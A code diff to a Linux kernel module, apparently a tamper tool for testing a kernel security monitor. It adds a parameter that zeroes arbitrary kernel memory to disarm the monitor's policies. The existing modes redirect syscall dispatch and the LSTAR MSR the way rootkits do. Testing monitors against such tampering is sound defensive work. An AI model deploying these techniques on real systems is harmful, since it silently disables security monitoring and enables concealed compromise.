@@ -8,6 +8,9 @@
  *       syscall dispatch) to call target instead (x64_sys_call: the monitor
  *       is bypassed), with the CPU's write protection off for the moment of
  *       the write, as rootkits do.
+ *   insmod secaas_tamper.ko zero=ADDR zero_len=N
+ *       zeroes N bytes of kernel memory at ADDR (a monitor's policies: it
+ *       is disarmed).
  *   insmod secaas_tamper.ko lstar=1
  *       moves every CPU's syscall entry (the LSTAR MSR) to a stub of its own
  *       that jumps to the kernel's entry: every syscall passes the rootkit
@@ -28,6 +31,13 @@ MODULE_PARM_DESC(site, "address of a 5-byte call instruction in kernel text");
 static unsigned long target;
 module_param(target, ulong, 0);
 MODULE_PARM_DESC(target, "the function the call should reach");
+
+static unsigned long zero;
+module_param(zero, ulong, 0);
+MODULE_PARM_DESC(zero, "address of kernel memory to zero");
+static int zero_len;
+module_param(zero_len, int, 0);
+MODULE_PARM_DESC(zero_len, "bytes to zero at zero");
 
 static int lstar;
 module_param(lstar, int, 0);
@@ -67,6 +77,13 @@ static int __init tamper_init(void)
 	long rel = (long)target - (long)(site + 5);
 	unsigned long flags, cr0;
 
+	if (zero) {
+		if (zero_len <= 0 || zero_len > 65536)
+			return -EINVAL;
+		memset((void *)zero, 0, zero_len);
+		pr_info("secaas_tamper: zeroed %d bytes at %lx\n", zero_len, zero);
+		return 0;
+	}
 	if (lstar) {
 		rdmsrl(MSR_LSTAR, secaas_tamper_orig);
 		on_each_cpu(set_lstar, (void *)secaas_tamper_entry, 1);
